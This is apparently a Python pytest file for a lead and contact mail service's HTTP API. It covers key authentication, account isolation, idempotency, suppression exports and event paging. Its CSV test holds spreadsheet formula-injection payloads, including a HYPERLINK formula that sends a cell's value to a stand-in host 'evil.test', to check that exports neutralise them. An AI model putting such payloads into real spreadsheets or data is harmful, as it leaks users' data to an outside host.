"""The HTTP API, through a real ``serve`` on a free port and a real HTTP client (httpx).

Keys: no key, a wrong one or a revoked one is 401; a key of one account sees nothing of
another (404, as for an id that does not exist). Every answer that is not a success is
RFC 9457 problem details. The API answers what the command line prints for the same
command, and records the same audit events, with ``via`` ``api``.
"""

from __future__ import annotations

import json

import httpx
import pytest
import sqlalchemy as sa

from feedback_mta.actions import CLI, unit_of_work
from feedback_mta.store.models import Event, IdempotencyKey, Lead
from tests.cli import run
from tests.conftest import write_config
from tests.test_cli import ok_json, ok_rows

PROBLEM = "application/problem+json"


class Api:
    """A running server with an HTTP listener, two accounts and a key for each (and one for
    every account)."""

    def __init__(self, server, engine, path):
        self.server, self.engine, self.path = server, engine, path
        self.url = f"http://127.0.0.1:{server.wait_for('http.started')['port']}"
        with unit_of_work(engine, CLI) as uow:
            self.account = uow.accounts.add("Dealer One").id
            self.other = uow.accounts.add("Dealer Two").id
        self.key = ok_json(path, "key", "add", "--account", str(self.account),
                           "--name", "crm")["key"]
        self.other_key = ok_json(self.path, "key", "add", "--account", str(self.other))["key"]
        self.all_key = ok_json(self.path, "key", "add", "--all-accounts")["key"]
        self.client = httpx.Client(base_url=self.url, timeout=10,
                                   headers={"Authorization": f"Bearer {self.key}"})

    def as_(self, key: str | None) -> httpx.Client:
        headers = {"Authorization": f"Bearer {key}"} if key else {}
        return httpx.Client(base_url=self.url, timeout=10, headers=headers)

    def events(self, action: str) -> list[dict]:
        t = Event.__table__
        with self.engine.connect() as conn:
            return [dict(r._mapping) for r in conn.execute(
                sa.select(t).where(t.c.action == action).order_by(t.c.id))]


@pytest.fixture
def api(tmp_path, database_url, server_factory):
    from feedback_mta import config as config_mod
    from feedback_mta.store import db

    path = write_config(tmp_path / "api.toml", database_url, http={"listen": "127.0.0.1:0"})
    engine = db.create_engine(config_mod.load(path, env={}).database)
    db.upgrade(engine)
    server = server_factory(path)
    yield Api(server, engine, path)
    engine.dispose()


def _problem(answer: httpx.Response, status: int) -> dict:
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"] == PROBLEM
    body = answer.json()
    assert body["status"] == status and body["title"] and body["type"]
    return body


LEAD = {"email": "Ann.Lee@People.test", "first": "Ann", "last": "Lee", "ip": "192.0.2.1",
        "comments": "please call"}


def test_a_lead_registered_over_http_is_what_lead_add_prints(api):
    answer = api.client.post("/v1/leads", json=LEAD)
    assert answer.status_code == 201, answer.text
    lead = answer.json()
    assert lead["account_id"] == api.account and lead["status"] == "active"
    assert lead["reply_to"].startswith(f"reply+{lead['id']}-")
    assert lead["message_id"].startswith(f"lead.{lead['id']}-")
    assert (lead["contact_status"], lead["quality"]) == ("active", "ok")
    assert lead["created_at"].endswith("Z")

    by_cli = ok_json(api.path, "lead", "add", "--account", str(api.account),
                     "--email", "bo@people.test", "--first", "Bo", "--last", "Li")
    assert set(by_cli) == set(lead)
    assert api.client.get(f"/v1/leads/{lead['id']}").json() == {
        k: v for k, v in lead.items() if k not in ("contact_status", "quality",
                                                    "quality_reasons", "notify")}
    [created] = [e for e in api.events("lead.created") if e["subject_id"] == lead["id"]]
    assert (created["actor"], created["via"]) == (f"api:key{1}", "api")

    # A key of every account must say which account.
    _problem(api.as_(api.all_key).post("/v1/leads", json=LEAD), 422)
    answer = api.as_(api.all_key).post("/v1/leads", json={**LEAD, "account_id": api.other})
    assert answer.status_code == 201 and answer.json()["account_id"] == api.other


def test_flag_and_restore_are_the_same_events_as_a_reply_with_via_api(api):
    lead = api.client.post("/v1/leads", json=LEAD).json()
    flagged = api.client.post(f"/v1/leads/{lead['id']}/flag")
    assert flagged.status_code == 200
    assert flagged.json()["status"] == "spam" and flagged.json()["changed"] is True
    assert flagged.json()["flagged_via"] == "api"
    assert api.client.post(f"/v1/leads/{lead['id']}/flag").json()["changed"] is False
    restored = api.client.post(f"/v1/leads/{lead['id']}/restore").json()
    assert (restored["status"], restored["changed"]) == ("active", True)
    [event] = api.events("lead.flagged_spam")
    assert (event["subject_id"], event["via"], event["data"]["contact_id"]) == (
        lead["id"], "api", lead["contact_id"])
    assert len(api.events("lead.restored")) == 1


def test_no_key_a_wrong_key_and_a_revoked_key_get_401(api):
    lead = api.client.post("/v1/leads", json=LEAD).json()
    for client in (api.as_(None), api.as_("fmk_not-a-key"), api.as_(api.key + "x")):
        body = _problem(client.get(f"/v1/leads/{lead['id']}"), 401)
        assert "key" in body["detail"]
    answer = api.as_(None).get(f"/v1/leads/{lead['id']}")
    assert answer.headers["www-authenticate"].startswith("Bearer")
    assert ok_json(api.path, "key", "revoke", "1") == {"id": 1, "revoked": True, "changed": True}
    _problem(api.client.get(f"/v1/leads/{lead['id']}"), 401)
    keys = ok_rows(api.path, "key", "list")
    assert [(k["id"], k["name"], k["revoked_at"] is not None) for k in keys] == [
        (1, "crm", True), (2, "", False), (3, "", False)]
    assert "key" not in keys[0]  # only the hash is kept, and never shown
    assert ok_json(api.path, "key", "revoke", "1")["changed"] is False


def test_another_accounts_things_are_not_found(api):
    lead = api.client.post("/v1/leads", json=LEAD).json()
    other = api.as_(api.other_key)
    for method, path in (("GET", f"/v1/leads/{lead['id']}"),
                         ("POST", f"/v1/leads/{lead['id']}/flag"),
                         ("GET", f"/v1/contacts/{lead['contact_id']}"),
                         ("GET", f"/v1/contacts/{lead['contact_id']}/headers"),
                         ("POST", f"/v1/contacts/{lead['contact_id']}/optout")):
        body = _problem(other.request(method, path), 404)
        # The same answer as for an id that does not exist.
        missing = _problem(other.request(method, path.replace(
            f"/{lead['id']}", "/999").replace(f"/{lead['contact_id']}", "/999")), 404)
        assert body["title"] == missing["title"]
    _problem(other.post("/v1/leads", json={**LEAD, "account_id": api.account}), 404)
    _problem(other.get("/v1/events", params={"account_id": api.account}), 404)
    assert other.get("/v1/events").json()["events"] == [
        e for e in other.get("/v1/events").json()["events"] if e["data"]["account_id"] == api.other]
    assert lead["id"] not in [e["data"].get("lead_id")
                              for e in other.get("/v1/events").json()["events"]]
    # Nothing changed: the other key's flag did not go through.
    with api.engine.connect() as conn:
        assert conn.execute(sa.select(Lead.__table__.c.status)).scalar() == "active"
    # A key of every account sees both.
    assert api.as_(api.all_key).get(f"/v1/leads/{lead['id']}").status_code == 200


def test_idempotency_key_answers_the_same_and_registers_once(api):
    headers = {"Idempotency-Key": "order-7"}
    first = api.client.post("/v1/leads", json=LEAD, headers=headers)
    again = api.client.post("/v1/leads", json=LEAD, headers=headers)
    assert first.status_code == again.status_code == 201
    assert first.json() == again.json()
    assert again.headers["idempotent-replayed"] == "true"
    with api.engine.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(Lead)).scalar() == 1
        assert conn.execute(sa.select(sa.func.count()).select_from(IdempotencyKey)).scalar() == 1
    assert len(api.events("lead.created")) == 1
    # The same key for another request: refused, nothing registered.
    body = _problem(api.client.post("/v1/leads", json={**LEAD, "comments": "other"},
                                    headers=headers), 422)
    assert "Idempotency-Key" in body["detail"]
    # Keys are per API key: another client may use the same one.
    mine = api.as_(api.other_key).post("/v1/leads", json=LEAD, headers=headers)
    assert mine.status_code == 201 and mine.json()["id"] != first.json()["id"]


def test_contacts_add_show_headers_and_change(api):
    body = {"email": "cy@people.test", "first": "Cy", "last": "Ng"}
    created = api.client.post("/v1/contacts", json=body)
    assert created.status_code == 201 and created.json()["created"] is True
    known = api.client.post("/v1/contacts", json=body)
    assert known.status_code == 200 and known.json()["created"] is False
    contact_id = created.json()["id"]
    shown = api.client.get(f"/v1/contacts/{contact_id}").json()
    assert shown == ok_json(api.path, "contact", "show", str(contact_id))
    headers = api.client.get(f"/v1/contacts/{contact_id}/headers").json()
    assert headers == ok_json(api.path, "contact", "headers", str(contact_id))
    assert headers["List-Unsubscribe"].startswith("<mailto:unsubscribe+")

    engaged = api.client.post(f"/v1/contacts/{contact_id}/engage", json={"kind": "purchase"})
    assert engaged.json()["engaged"] is True and engaged.json()["changed"] is True
    _problem(api.client.post(f"/v1/contacts/{contact_id}/engage", json={"kind": "hug"}), 422)
    out = api.client.post(f"/v1/contacts/{contact_id}/optout", json={"reason": "asked by phone"})
    assert (out.json()["status"], out.json()["opt_out_reason"]) == ("opted_out", "asked by phone")
    assert api.client.post(f"/v1/contacts/{contact_id}/optout").json()["changed"] is False
    assert api.client.post(f"/v1/contacts/{contact_id}/verify").json()["verified"] is True
    [event] = api.events("contact.opted_out")
    assert (event["via"], event["reason"]) == ("api", "asked by phone")

    # A bot's name: known bad at once, and the answer says so.
    bot = api.client.post("/v1/contacts", json={"email": "x@people.test", "first": "Xkqzvwpt",
                                                "last": "Jhgfdsa"}).json()
    assert (bot["status"], bot["quality"]) == ("opted_out", "invalid")


def test_suppressions_page_by_cursor_and_stream_as_csv(api):
    ids = []
    names = ("Anna Berg", "Omar Haddad", "Lena Fischer", "Tom Baker", "Sara Costa")
    for i, name in enumerate(names):
        first, last = name.split()
        contact = api.client.post("/v1/contacts", json={"email": f"s{i}@people.test",
                                                        "first": first, "last": last})
        ids.append(contact.json()["id"])
    api.client.post("/v1/contacts", json={"email": "keep@people.test", "first": "Kim",
                                          "last": "Ek"})
    for contact_id in ids:
        answer = api.client.post(f"/v1/contacts/{contact_id}/optout",
                                 json={"reason": "asked by phone"})
        assert answer.status_code == 200, answer.text
    # Another account's opt-out is not in this account's list.
    other = api.as_(api.other_key).post("/v1/contacts", json={"email": "o@people.test",
                                                               "first": "Oli", "last": "Ek"})
    api.as_(api.other_key).post(f"/v1/contacts/{other.json()['id']}/optout")

    seen, cursor, pages = [], None, 0
    while True:
        page = api.client.get("/v1/suppressions", params={"limit": 2, "after": cursor} if cursor
                              else {"limit": 2}).json()
        seen += page["suppressions"]
        pages += 1
        cursor = page["next"]
        if cursor is None:
            break
    assert pages == 3
    assert [s["contact_id"] for s in seen] == ids
    assert {s["reason"] for s in seen} == {"asked by phone"} and all(s["since"] for s in seen)

    csv_answer = api.client.get("/v1/suppressions", headers={"Accept": "text/csv"})
    assert csv_answer.headers["content-type"].startswith("text/csv")
    lines = csv_answer.text.strip().splitlines()
    assert lines[0].startswith("contact_id,account_id,email,reason,since")
    assert [line.split(",")[2] for line in lines[1:]] == [f"s{i}@people.test" for i in range(5)]

    everyone = api.as_(api.all_key).get("/v1/suppressions").json()["suppressions"]
    assert len(everyone) == 6
    _problem(api.client.get("/v1/suppressions", params={"after": "not-ours"}), 422)
    _problem(api.client.get("/v1/suppressions", params={"account_id": api.other}), 404)


def test_the_event_feed_pages_in_commit_order_and_filters_by_type(api):
    leads = [api.client.post("/v1/leads", json={**LEAD, "email": f"f{i}@people.test"}).json()
             for i in range(3)]
    api.client.post(f"/v1/leads/{leads[1]['id']}/flag")
    everything = api.client.get("/v1/events", params={"limit": 1000}).json()
    ids = [e["id"] for e in everything["events"]]
    assert ids == sorted(ids) and everything["next"] == ids[-1]
    # Paging by the cursor gives the same events, once each.
    paged, after = [], 0
    while True:
        page = api.client.get("/v1/events", params={"after": after, "limit": 2}).json()
        if not page["events"]:
            assert page["next"] == after
            break
        paged += page["events"]
        after = page["next"]
    assert paged == everything["events"]
    only = api.client.get("/v1/events", params={"type": "lead.*"}).json()["events"]
    assert [e["type"] for e in only] == ["lead.created"] * 3 + ["lead.flagged_spam"]
    flagged = only[-1]
    assert flagged["data"] == {"lead_id": leads[1]["id"], "account_id": api.account,
                               "actor": "api:key1", "via": "api",
                               "contact_id": leads[1]["contact_id"], "exported": False}
    assert flagged["created_at"].endswith("Z")
    two = api.client.get("/v1/events", params={"type": "lead.flagged_spam,contact.created"})
    assert {e["type"] for e in two.json()["events"]} == {"lead.flagged_spam", "contact.created"}
    # The log line of the same event carries the same fields and the id.
    line = api.server.wait_for("lead.flagged_spam")
    assert line["event_id"] == flagged["id"]
    assert {k: line[k] for k in flagged["data"]} == flagged["data"]


def test_bad_requests_get_precise_problems_and_health_answers(api):
    body = _problem(api.client.post("/v1/leads", content=b"{not json",
                                    headers={"content-type": "application/json"}), 422)
    assert body["errors"]
    body = _problem(api.client.post("/v1/leads", json={"first": "Ann"}), 422)
    assert "email" in body["detail"]
    _problem(api.client.post("/v1/leads", json={**LEAD, "ip": "999.1.1.1"}), 422)
    _problem(api.client.post("/v1/leads", json={**LEAD, "email": "not an address"}), 422)
    _problem(api.client.get("/v1/leads/999"), 404)
    _problem(api.client.get("/v1/leads/abc"), 422)
    _problem(api.client.get("/v1/nothing-here"), 404)
    _problem(api.client.delete("/v1/leads/1"), 405)
    # Bodies past [smtp] max_message_size (1 MiB in the tests): 413, by header or by stream.
    big = b'{"email": "' + b"a" * (1024 * 1024 + 10) + b'"}'
    _problem(api.client.post("/v1/leads", content=big,
                             headers={"content-type": "application/json"}), 413)

    def chunks():
        for _ in range(20):
            yield b" " * 100_000

    _problem(api.client.post("/v1/leads", content=chunks(),
                             headers={"content-type": "application/json"}), 413)
    assert api.as_(None).get("/healthz").json()["status"] == "ok"
    spec = api.as_(None).get("/openapi.json").json()
    assert {"/v1/leads", "/v1/events", "/v1/suppressions",
            "/v1/contacts/{contact_id}/headers"} <= set(spec["paths"])
    # One canonical line per request, never the key.
    line = api.server.wait_for("http.request", route="/v1/leads/{lead_id}", status=404)
    assert line["method"] == "GET" and "duration_ms" in line
    assert api.key not in json.dumps(api.server.events)


def test_no_smtp_serves_http_only(tmp_path, database_url, server_factory):
    import smtplib

    from feedback_mta import config as config_mod
    from feedback_mta.store import db

    path = write_config(tmp_path / "http-only.toml", database_url,
                        http={"listen": "127.0.0.1:0"})
    engine = db.create_engine(config_mod.load(path, env={}).database)
    db.upgrade(engine)
    engine.dispose()
    server = server_factory(path, args=("--no-smtp",))
    started = server.wait_for("server.started")
    assert started["protocol"] is None and started["port"] is None
    port = server.wait_for("http.started")["port"]
    assert started["http_port"] == port
    assert httpx.get(f"http://127.0.0.1:{port}/healthz").status_code == 200
    with pytest.raises((smtplib.SMTPServerDisconnected, OSError)):
        smtplib.SMTP("127.0.0.1", port, timeout=2).noop()
    assert server.stop() == 0


def test_idempotency_keys_are_forgotten_after_a_day(engine):
    from datetime import timedelta

    from sqlmodel import Session

    from feedback_mta.jobs.retention import forget_idempotency_keys
    from feedback_mta.store.models import CommentBand, HookNonce, ReviewLink, utcnow

    now = utcnow()
    with Session(engine) as session:
        for key, age in (("old", 25), ("new", 23)):
            # The comments' bands after the campaign window, sign-in links a day expired.
            session.add(CommentBand(band=age, lead_id=1, account_id=1, sender=key,
                                    created_at=now - timedelta(hours=age)))
            session.add(ReviewLink(email=key, secret_hash="h",
                                   expires_at=now - timedelta(hours=age)))
            session.add(IdempotencyKey(scope="key:1", key=key, request_hash="h",
                                       status_code=201, body={},
                                       created_at=now - timedelta(hours=age)))
            # Webhook nonces go with them: a day old, they sign nothing still accepted.
            session.add(HookNonce(provider="mailgun", nonce=key, content_hash="h",
                                  seen_at=now - timedelta(hours=age)))
        session.commit()
    assert forget_idempotency_keys(engine, now) == 1
    with engine.connect() as conn:
        assert list(conn.execute(sa.select(IdempotencyKey.__table__.c.key)).scalars()) == ["new"]
        assert list(conn.execute(sa.select(HookNonce.__table__.c.nonce)).scalars()) == ["new"]
        assert list(conn.execute(sa.select(CommentBand.__table__.c.sender)).scalars()) == [
            "new"]
        assert list(conn.execute(sa.select(ReviewLink.__table__.c.email)).scalars()) == ["new"]


# Every state a contact can be in, and what "mailable" must say of it everywhere.
MAILABILITY = {
    "active": (True, None),
    "unsubscribe": (False, "unsubscribe"),
    "complaint": (False, "complaint"),
    "invalid_contact": (False, "invalid_contact"),
    "suspected_invalid": (False, "suspected_invalid"),
    "manual": (False, "manual"),
    "bounced": (False, "bounced"),
    "bounced, then unsubscribed": (False, "unsubscribe"),
    "unsubscribed, then bounced": (False, "unsubscribe"),
    # Awaiting confirmation (the consent status): not mailable either.
    "pending": (False, "unconfirmed"),
    "bounced, made deliverable again": (True, None),
}


def _contact_in(api, state: str, n: int) -> int:
    with unit_of_work(api.engine, CLI) as uow:
        contact, _ = uow.contacts.add(api.account, f"c{n}@people.test", "Ann", "Lee")
        for step in state.split(", "):
            if step in ("bounced", "then bounced"):
                uow.contacts.mark_undeliverable(contact, "hard bounce: 5.1.1 userunknown")
            elif step == "made deliverable again":
                uow.contacts.mark_deliverable(contact)
            elif step in ("unsubscribed", "then unsubscribed"):
                uow.contacts.opt_out(contact, "unsubscribe")
            elif step not in ("active", "pending"):
                uow.contacts.opt_out(contact, step)
        contact_id = contact.id
    if state == "pending":
        with api.engine.begin() as conn:
            conn.execute(sa.text("UPDATE contact SET status = 'pending' WHERE id = :id"),
                         {"id": contact_id})
    return contact_id


def test_mailable_means_the_same_in_show_list_api_and_the_suppressions(api):
    """One meaning: mail may be sent. ``contact show``, ``contact list --mailable``,
    ``GET /v1/contacts/{id}`` and ``/v1/suppressions`` (JSON and CSV) agree on every
    state, and the reason says why."""
    ids = {state: _contact_in(api, state, n) for n, state in enumerate(MAILABILITY)}
    names = {contact_id: state for state, contact_id in ids.items()}
    expected = {ids[state]: want for state, want in MAILABILITY.items()}

    # Whether mail may be sent, first: the four places agree.
    mailable = {i: want[0] for i, want in expected.items()}
    assert {c["id"] for c in ok_rows(api.path, "contact", "list", "--mailable", "true")} == {
        i for i, yes in mailable.items() if yes}
    assert {s["contact_id"]: s["mailable"] for s in api.client.get(
        "/v1/suppressions").json()["suppressions"]} == {
        i: yes for i, yes in mailable.items() if not yes}

    shown = {i: ok_json(api.path, "contact", "show", str(i)) for i in ids.values()}
    assert {i: (c["mailable"], c["not_mailable_reason"]) for i, c in shown.items()} == expected
    over_http = {i: api.client.get(f"/v1/contacts/{i}").json() for i in ids.values()}
    assert {i: (c["mailable"], c["not_mailable_reason"])
            for i, c in over_http.items()} == expected

    listed = {flag: {c["id"]: (c["mailable"], c["not_mailable_reason"]) for c in ok_rows(
        api.path, "contact", "list", "--account", str(api.account), "--mailable", flag)}
        for flag in ("true", "false")}
    assert {names[i] for i in listed["true"]} == {"active", "bounced, made deliverable again"}
    assert listed["true"] | listed["false"] == expected

    page = api.client.get("/v1/suppressions").json()["suppressions"]
    suppressed = {s["contact_id"]: (s["mailable"], s["reason"]) for s in page}
    assert suppressed == {i: want for i, want in expected.items() if not want[0]}
    bounced = {names[s["contact_id"]] for s in page if s["bounced"]}
    assert bounced == {"bounced", "bounced, then unsubscribed", "unsubscribed, then bounced"}

    import csv
    import io
    table = list(csv.DictReader(io.StringIO(api.client.get(
        "/v1/suppressions", headers={"Accept": "text/csv"}).text)))
    assert {int(r["contact_id"]): (r["mailable"] == "true", r["reason"] or None)
            for r in table} == suppressed


FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(1+1)"]
#: A leading tab or CR cannot reach a cell through what is stored (it is trimmed, and
#: control characters within are refused, in addresses, names and reasons), but the rule
#: holds for them too.
UNSTORABLE = ["\t=1+1", "\r=1+1"]


def test_no_csv_cell_can_start_a_formula(api):
    """What a form submitter chose (an address, an opt-out reason) comes out of the
    suppressions CSV behind a single quote when a spreadsheet would run it (OWASP); the
    JSON keeps it as it came."""
    lead = api.client.post("/v1/leads", json={**LEAD, "email": "=1+1@people.test"}).json()
    api.client.post(f"/v1/contacts/{lead['contact_id']}/optout",
                    json={"reason": FORMULAS[0]})
    for n, formula in enumerate(FORMULAS[1:]):
        contact = api.client.post("/v1/contacts", json={
            "email": f"+{n}@people.test", "first": "Ann", "last": "Lee"}).json()
        ok_json(api.path, "contact", "optout", str(contact["id"]), "--reason", formula)

    import csv
    import io
    answer = api.client.get("/v1/suppressions", headers={"Accept": "text/csv"})
    table = list(csv.reader(io.StringIO(answer.text, newline="")))
    header, cells = table[0], [c for row in table[1:] for c in row]
    assert len(table) == 1 + len(FORMULAS)
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    by_email = {row[header.index("email")]: row[header.index("reason")] for row in table[1:]}
    assert by_email["'=1+1@people.test"] == "'" + FORMULAS[0]
    assert sorted(by_email.values()) == sorted("'" + f for f in FORMULAS)
    # The JSON is not for spreadsheets: the values as they came.
    page = api.client.get("/v1/suppressions").json()["suppressions"]
    assert sorted(s["reason"] for s in page) == sorted(FORMULAS)
    from feedback_mta.queries.sheets import cell

    assert [cell(f) for f in UNSTORABLE] == ["'" + f for f in UNSTORABLE]


def test_every_csv_the_service_writes_goes_through_one_helper():
    from pathlib import Path

    import feedback_mta
    root = Path(feedback_mta.__file__).parent
    writers = {str(p.relative_to(root)) for p in root.rglob("*.py")
               if "csv.writer(" in p.read_text() or "csv.DictWriter(" in p.read_text()}
    assert writers == {"queries/sheets.py"}


def test_lead_comments_past_the_limit_are_refused_by_the_api_and_lead_add(api):
    """``[http] max_comment_bytes`` (16 KB), counted in UTF-8 bytes: one byte more is a
    422 naming ``comments`` (``lead add``: exit 1, one line), and nothing is stored."""
    limit = 16 * 1024
    at_limit = "é" * (limit // 2)  # two bytes each: exactly the limit
    taken = api.client.post("/v1/leads", json={**LEAD, "comments": at_limit})
    assert taken.status_code == 201, taken.text
    for comments in (at_limit + "x", "1" * 1_000_000):
        body = _problem(api.client.post("/v1/leads", json={**LEAD, "email": "b@people.test",
                                                            "comments": comments}), 422)
        assert body["detail"].startswith("comments: longer than 16384 bytes")
        assert body["errors"][0]["loc"] == ["body", "comments"]
    refused = run(api.path, "lead", "add", "--account", str(api.account), "--email",
                  "c@people.test", "--first", "Cy", "--last", "Ng", "--comments",
                  "x" * (limit + 1))
    assert refused.returncode == 1 and refused.stdout == ""
    [line] = refused.stderr.strip().splitlines()
    assert "comments: longer than 16384 bytes" in line
    with api.engine.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(Lead)).scalar() == 1


def test_a_lead_s_scoring_holds_no_lock_an_smtp_message_waits_for(api, monkeypatch):
    """Reading the comments (the part of scoring that grows with them) happens before the
    lead's transaction: made to take 3 s here, an SMTP message sent meanwhile still gets
    its 250 within 1 s (in the transaction, it waited for the lead's write lock)."""
    import smtplib
    import threading
    import time

    from feedback_mta.quality import campaigns
    from tests.conftest import DOMAIN

    reading, slow = threading.Event(), campaigns.bands

    def bands(text):
        reading.set()
        time.sleep(3)
        return slow(text)

    monkeypatch.setattr(campaigns, "bands", bands)
    answers: list[httpx.Response] = []
    comments = "Is the blue sedan still available, and could I see it on Saturday morning?"
    lead = threading.Thread(target=lambda: answers.append(api.client.post(
        "/v1/leads", json={**LEAD, "comments": comments})))
    lead.start()
    try:
        assert reading.wait(10)
        started = time.monotonic()
        client = smtplib.SMTP("127.0.0.1", api.server.port, timeout=30)
        client.sendmail("someone@else.test", [f"postmaster@{DOMAIN}"],
                        b"Subject: hi\r\n\r\nhello\r\n")
        took = time.monotonic() - started
        client.quit()
    finally:
        lead.join(30)
    assert took < 1.0, took
    assert answers[0].status_code == 201, answers[0].text


# -- registrations committed together ----------------------------------------------------------

@pytest.fixture
def api_debug(tmp_path, database_url, server_factory):
    """``api`` logging at debug: each group commit of registrations is a line."""
    from feedback_mta import config as config_mod
    from feedback_mta.store import db

    path = write_config(tmp_path / "api.toml", database_url, http={"listen": "127.0.0.1:0"},
                        logging={"format": "json", "level": "debug"})
    engine = db.create_engine(config_mod.load(path, env={}).database)
    db.upgrade(engine)
    server = server_factory(path)
    yield Api(server, engine, path)
    engine.dispose()


def _while_commits_wait(api, requests: list[tuple[dict, dict]]) -> list[httpx.Response]:
    """Send ``requests`` (body, headers) at once while a commit cannot finish (SQLite's
    write lock, PostgreSQL's event lock held here for a second), then let it go."""
    import threading
    import time

    from feedback_mta.actions.audit import EVENT_LOCK

    answers: list[httpx.Response | None] = [None] * len(requests)

    def send(i: int, body: dict, headers: dict) -> None:
        with api.as_(api.all_key) as client:
            answers[i] = client.post("/v1/leads", json=body, headers=headers, timeout=30)

    with api.engine.connect() as conn:
        if conn.dialect.name == "sqlite":
            conn.exec_driver_sql("SELECT 1")  # BEGIN IMMEDIATE: the write lock is ours
        else:
            conn.execute(sa.text("SELECT pg_advisory_xact_lock(:k)"), {"k": EVENT_LOCK})
        threads = [threading.Thread(target=send, args=(i, body, headers))
                   for i, (body, headers) in enumerate(requests)]
        for thread in threads:
            thread.start()
        time.sleep(1.5)
        conn.rollback()
    for thread in threads:
        thread.join(30)
    assert all(a is not None for a in answers)
    return answers  # type: ignore[return-value]


def test_registrations_arriving_meanwhile_are_committed_together(api_debug):
    """Registrations that arrive while a commit waits go in the next one (one transaction,
    one fsync for many), each answered with its own lead and its own audit events."""
    api = api_debug
    bodies = [({**LEAD, "email": f"n{i}@people.test", "account_id": api.account}, {})
              for i in range(8)]
    answers = _while_commits_wait(api, bodies)
    assert [a.status_code for a in answers] == [201] * 8, [a.text for a in answers]
    ids = [a.json()["id"] for a in answers]
    assert len(set(ids)) == 8
    with api.engine.connect() as conn:
        rows = dict(conn.execute(sa.select(Lead.__table__.c.id, Lead.__table__.c.contact_id))
                    .all())
        emails = {a.json()["id"]: b["email"] for a, (b, _) in zip(answers, bodies, strict=True)}
        contact = sa.table("contact", sa.column("id"), sa.column("email"))
        for lead_id, email in emails.items():
            assert conn.execute(sa.select(contact.c.email).where(
                contact.c.id == rows[lead_id])).scalar() == email
    # Each its audit events, as alone.
    assert sorted(e["subject_id"] for e in api.events("lead.created")) == sorted(ids)
    commits = [e["count"] for e in api.server.events if e.get("event") == "together.committed"]
    assert max(commits) >= 2, commits


def test_a_bad_registration_in_a_group_commit_fails_alone(api_debug):
    """In one group commit: a lead whose comments are refused after its contact was made
    (rolled back to its SAVEPOINT: no contact, no event), one for an account that does not
    exist, an Idempotency-Key reused for another request, and the same new key twice; the
    others are registered, each request answered its own result or error."""
    api = api_debug
    first = api.as_(api.all_key).post(
        "/v1/leads", json={**LEAD, "email": "kept@people.test", "account_id": api.account},
        headers={"Idempotency-Key": "used"})
    assert first.status_code == 201, first.text
    good = [({**LEAD, "email": f"g{i}@people.test", "account_id": api.account}, {})
            for i in range(4)]
    twice = ({**LEAD, "email": "twice@people.test", "account_id": api.account},
             {"Idempotency-Key": "twice"})
    bad = [({**LEAD, "email": "control@people.test", "comments": "hi\x01there",
             "account_id": api.account}, {}),
           ({**LEAD, "email": "nowhere@people.test", "account_id": 999999}, {}),
           ({**LEAD, "email": "other@people.test", "account_id": api.account},
            {"Idempotency-Key": "used"})]
    answers = _while_commits_wait(api, [*good, twice, twice, *bad])
    assert [a.status_code for a in answers[:4]] == [201] * 4, [a.text for a in answers]
    # The same key twice in one commit: registered once, the second answered as the first.
    assert [a.status_code for a in answers[4:6]] == [201, 201]
    assert answers[4].json() == answers[5].json()
    assert {a.headers.get("idempotent-replayed") for a in answers[4:6]} == {None, "true"}
    control, nowhere, reused = answers[6:]
    assert control.status_code == 422 and "control character" in control.json()["detail"]
    assert nowhere.status_code == 404, nowhere.text
    assert reused.status_code == 422 and "Idempotency-Key" in reused.json()["detail"]
    with api.engine.connect() as conn:
        emails = set(conn.execute(sa.text("SELECT email FROM contact")).scalars())
    assert emails == {"kept@people.test", "twice@people.test",
                      *(f"g{i}@people.test" for i in range(4))}
    assert len(api.events("contact.created")) == 6
    assert len(api.events("lead.created")) == 6


def test_a_registration_bad_in_two_ways_is_refused_for_what_comes_first(api):
    """Checked in the order a registration always checked them: a lead's comments before
    its names, address and IP; an Idempotency-Key used before (its answer, or the key
    reused for another request) before anything of the request itself."""
    long = "x" * (16 * 1024 + 1)
    for lead in ({**LEAD, "first": "A\x01n", "comments": long},
                 {**LEAD, "email": "not an address", "comments": long},
                 {**LEAD, "ip": "999.1.1.1", "comments": long}):
        body = _problem(api.client.post("/v1/leads", json=lead), 422)
        assert body["errors"][0]["loc"] == ["body", "comments"], body
    for path, good in (("/v1/leads", LEAD),
                       ("/v1/contacts", {k: LEAD[k] for k in ("email", "first", "last")})):
        headers = {"Idempotency-Key": f"k{path}"}
        assert api.client.post(path, json=good, headers=headers).status_code in (200, 201)
        for bad in ({**good, "first": "A\x01n"}, {**good, "email": "not an address"}):
            body = _problem(api.client.post(path, json=bad, headers=headers), 422)
            assert body["type"].endswith("/problems/idempotency-key-reused"), body
